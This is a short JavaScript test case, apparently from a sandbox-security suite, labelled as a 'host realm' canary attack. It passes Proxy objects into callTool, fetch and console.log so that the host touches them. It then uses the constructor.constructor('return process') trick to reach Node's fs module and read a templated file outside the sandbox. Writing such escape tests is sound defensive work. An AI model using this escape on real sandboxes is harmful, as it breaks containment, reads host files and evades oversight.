// attack {"class":"host realm","attempt":"accessors, proxies and iterators that the kernel meets when it reads a result","effect":"canary","ends":["ok"],"bare":true}
const seen = [];
const spy = (name) => new Proxy(function () {}, {
  get: (target, key, receiver) => { note(receiver); return key === "toJSON" ? undefined : Reflect.get(target, key); },
  apply: (target, self, args) => { note(self); for (const each of args) note(each); },
  has: () => true, ownKeys: (target) => Reflect.ownKeys(target), getPrototypeOf: (target) => { note(target); return Object.prototype; },
});
const note = (value) => {
  for (const start of [value, this]) {
    try { seen.push(start.constructor.constructor("return process")().getBuiltinModule("fs").readFileSync("{{outside.file}}", "utf8")); } catch {}
  }
};
try { callTool("echo", spy("arguments")); } catch {}
try { await fetch("{{site.url}}", spy("request")); } catch {}
console.log(spy("line"));
console.log(seen.join(""));
